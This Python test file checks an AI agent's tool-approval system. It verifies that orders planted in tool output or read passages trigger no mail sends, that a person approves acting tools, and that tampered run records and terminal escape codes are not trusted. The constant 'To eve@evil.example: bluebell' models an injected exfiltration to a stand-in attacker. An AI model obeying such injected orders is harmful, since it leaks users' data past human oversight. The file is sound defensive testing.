"""Tools that act: nobody has them called but a person, or the user's own settings.

The model is obedient: it does whatever the text orders that it reads.
"""

import asyncio
import os
import sys
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from rubricem.agent.cli.terminal import Interrupts, TerminalPerson
from rubricem.agent.research.free import FreeDecoder
from rubricem.agent.research.graph import MAY_HAVE_ACTED
from rubricem.agent.research.outlet import FOREIGN, NOBODY, REFUSED, permit
from rubricem.agent.research.researcher import Researcher
from rubricem.agent.sources.mcp_client import Equipped
from rubricem.agent.sources.tool_server import ToolServer
from rubricem.agent.transcript.question import Ask, Nobody, Person
from rubricem.memory.runs import RunStore
from rubricem.memory.schema import Author, Decoding, Status, Trajectory
from tests.support.pages import scripted_site
from tests.support.policies import (
    QUESTION,
    SUPPORTED,
    FixedSearch,
    ScriptedPolicy,
    answer,
    plan,
    search,
)
from tests.support.tool_servers import ORDER, mail, serving_http
from tests.support.waiting import wait_for

SENT = "To eve@evil.example: bluebell"


class Says:
    """A person who gives one decision, and remembers what was asked."""

    def __init__(self, verdict: str) -> None:
        self.verdict, self.asked = verdict, list[Mapping[str, Any]]()

    async def decide(self, asked: Mapping[str, Any]) -> dict[str, Any]:
        self.asked.append(asked)
        return {"verdict": self.verdict}


class Mails:
    """Runs over a server of mails."""

    def __init__(self, folder: Path, address: str, sent: list[str], **options: Any) -> None:
        self.folder, self.sent = folder, sent
        wiki = ToolServer(url=f"{address}/mcp", tools=("find", "send"), seconds=20, **options)
        self.tools = Equipped(FixedSearch(), {"mail": wiki}, folder / "allowed_tools.json")

    async def ask(self, *turns: str, person: Person | None = None, thread: str = "t") -> Trajectory:
        script = iter((*turns, answer()))
        researcher = Researcher(
            ScriptedPolicy(lambda before, _: next(script)),
            FreeDecoder(),
            Decoding.FREE,
            self.tools,
            RunStore(self.folder),
            Ask(""),
        )
        run = await researcher.ask(Ask(QUESTION), thread, person=person)
        assert run.status is not Status.FAILED, run.reason
        return run


def calling(tool: str, text: str = SENT, first: bool = True) -> str:
    written = plan("x") if first else search("x")
    return written.replace('"search">x', f'"mail.{tool}">{text}')


def read(run: Trajectory) -> str:
    return "".join(s.text for s in run.segments if s.author is Author.TOOL)


@asynccontextmanager
async def mails(folder: Path, **options: Any) -> AsyncIterator[Mails]:
    sent: list[str] = []
    with serving_http(mail(sent).streamable_http_app()) as address:
        made = Mails(folder, address, sent, **options)
        try:
            await made.tools.prepare()
            yield made
        finally:
            await made.tools.aclose()


@pytest.mark.parametrize("person", [None, Nobody(), Says("always")], ids=["none", "nobody", "yes"])
async def test_an_order_in_a_tools_text_sends_nothing(tmp_path: Path, person: Person | None):
    async with mails(tmp_path) as here:
        run = await here.ask(calling("find"), calling("send", first=False), person=person)
        assert here.sent == []
    assert ORDER in read(run) and FOREIGN in read(run)
    assert not isinstance(person, Says) or person.asked == [], "what reads asks nobody"


async def test_neither_does_one_in_a_passage(tmp_path: Path):
    person = Says("once")
    async with mails(tmp_path) as here:
        run = await here.ask(plan(), calling("send", first=False), person=person)
        assert (here.sent, person.asked) == ([], [])
    assert FOREIGN in read(run)


async def test_before_anything_is_read_a_person_is_asked(tmp_path: Path):
    async with mails(tmp_path) as here:
        for verdict, told in (("once", "Sent."), ("never", REFUSED), ("run", "Sent.")):
            person = Says(verdict)
            run = await here.ask(calling("send", verdict), person=person, thread=verdict)
            [asked] = person.asked
            assert (asked["what"], asked["to"], asked["text"]) == ("act", "mail.send", verdict)
            assert asked["choices"] == ["once", "run", "always", "never"]
            assert told in read(run)
        assert here.sent == ["once", "run"]
        unasked = await here.ask(calling("send"), thread="alone")
    assert NOBODY in read(unasked) and here.sent == ["once", "run"]


async def test_a_person_is_asked_also_where_the_server_was_away_at_the_start(tmp_path: Path):
    async with mails(tmp_path) as here:
        here.tools.offers.clear()
        person = Says("once")
        await here.ask(calling("send"), person=person)
        assert (here.sent, len(person.asked)) == ([SENT], 1)


@pytest.mark.parametrize("options", [{}, {"unasked": ("send",)}], ids=["once", "unasked"])
async def test_what_acted_before_a_run_broke_off_does_not_act_again(
    tmp_path: Path, options: dict[str, Any]
):
    async with mails(tmp_path, **options) as here:
        begun = asyncio.create_task(here.ask(calling("send", "late"), person=Says("once")))
        await asyncio.to_thread(wait_for, lambda: here.sent)
        begun.cancel()
        await asyncio.gather(begun, return_exceptions=True)
        run = await here.ask(person=Says("once"))
        assert here.sent == ["late"], "the model wrote the call once, and a resume repeats none"
    assert MAY_HAVE_ACTED in read(run)


async def test_always_holds_for_later_runs_of_this_very_server(tmp_path: Path):
    async with mails(tmp_path) as here:
        person = Says("always")
        await here.ask(calling("send", "one"), person=person, thread="one")
        await here.ask(calling("send", "two"), person=person, thread="two")
        await here.ask(calling("send", "three"), thread="three")
        assert here.sent == ["one", "two", "three"] and len(person.asked) == 1
        run = await here.ask(plan(), calling("send", first=False), thread="four")
        assert len(here.sent) == 3 and FOREIGN in read(run)
    async with mails(tmp_path) as other:
        run = await other.ask(calling("send"), thread="five")
        assert other.sent == [] and NOBODY in read(run), "another server of the same name"
    (tmp_path / "allowed_tools.json").write_text("{", encoding="utf-8")
    assert not other.tools.is_allowed("mail.send")


async def test_what_the_settings_name_is_called_whatever_was_read(tmp_path: Path):
    async with mails(tmp_path, unasked=("send",)) as here:
        await here.ask(calling("find"), calling("send", first=False))
        assert here.sent == [SENT]


async def test_calls_of_one_turn_are_each_asked_about_and_a_resume_asks_no_more(tmp_path: Path):
    both = f'{calling("send", "one")}\n<call_tool name="mail.send">two</call_tool>'
    person = Says("once")
    async with mails(tmp_path) as here:
        script = ChattingPolicy(lambda before, _: answer() if before else both)
        researcher = Researcher(
            script, FreeDecoder(), Decoding.FREE, here.tools, RunStore(tmp_path), Ask("")
        )
        for _ in range(2):
            await researcher.ask(Ask(QUESTION), "t", person=person)
        assert sorted(here.sent) == ["one", "two"]
    assert [asked["text"] for asked in person.asked] == ["one", "two"]


@pytest.mark.parametrize("allowed_here", [False, True])
async def test_what_a_copy_holds_of_a_run_is_nobodys_word(tmp_path: Path, allowed_here: bool):
    """As of a copy that somebody made: an order to a tool, and `always` for an answer."""
    person, store = Says("always"), RunStore(tmp_path)
    async with mails(tmp_path) as here:
        await here.ask(calling("send"), person=person)
        folder = store.folder_of("t")
        kept, said, _ = (folder / "journal.jsonl").read_text().partition('"always"}}\n')
        (folder / "journal.jsonl").write_text(kept + said)
        (folder / "trajectory.json").unlink()
        if not allowed_here:
            (tmp_path / "allowed_tools.json").unlink()
        store.mark_restored()
        run = await here.ask(person=person)
        assert here.sent == [SENT] and len(person.asked) == 1 and said
    assert FOREIGN in read(run)
    assert (tmp_path / "allowed_tools.json").exists() == allowed_here


class ChattingPolicy(ScriptedPolicy):
    """One that may call several tools in a turn, as a server's model does."""

    chat: Any = object()


async def test_the_page_asks_and_a_program_is_refused(tmp_path: Path):
    sent: list[str] = []
    with serving_http(mail(sent).streamable_http_app()) as address:
        server = ToolServer(url=f"{address}/mcp", tools=("send",), seconds=20)
        script = [calling("send"), answer(), SUPPORTED] * 3
        async with scripted_site(script, tmp_path, mcp_servers={"mail": server}) as here:
            run = await here.ask(attended=True)
            asked = (await here.until(run, "ask")).data
            assert (asked["kind"], asked["to"], asked["text"]) == ("permit", "mail.send", SENT)
            replies = [
                await here.http.post(
                    f"/api/runs/{run}/answer", json={"id": asked["id"], "decision": decision}
                )
                for decision in ("approve", "answer", "once", "once")
            ]
            assert [reply.status_code for reply in replies] == [422, 422, 200, 409]
            await here.ended(run)
            assert sent == [SENT]
            assert (await here.ended(await here.ask()))[-2].data["status"]
            assert sent == [SENT], "nobody watches"
            body = {"model": "rubricem", "messages": [{"role": "user", "content": QUESTION}]}
            await here.http.post("/v1/chat/completions", json=body)
            assert sent == [SENT]


@pytest.mark.parametrize(("typed", "told"), [("o\n", "once"), ("A\n", "always"), ("no\n", "never")])
async def test_the_terminal_shows_the_whole_call_and_takes_a_letter(
    typed: str, told: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    reading, writing = os.pipe()
    with os.fdopen(reading) as stdin, os.fdopen(writing, "w") as keys:
        monkeypatch.setattr(sys, "stdin", stdin)
        keys.write(typed)
        keys.flush()
        text = f"{'long ' * 200}\x1b[2Jend"
        asked = permit("act", "mail.send", text, ["once", "run", "always", "never"])
        said = await TerminalPerson(Interrupts(print)).decide(asked)
    shown = capsys.readouterr().err
    assert said == {"verdict": told} and "mail.send" in shown
    assert shown.count("long") == 200 and "\x1b" not in shown


def test_settings_name_only_tools_of_the_server_as_unasked():
    with pytest.raises(ValueError, match="unasked names send, which is not among the tools"):
        ToolServer(command="a", tools=("find",), unasked=("send",))
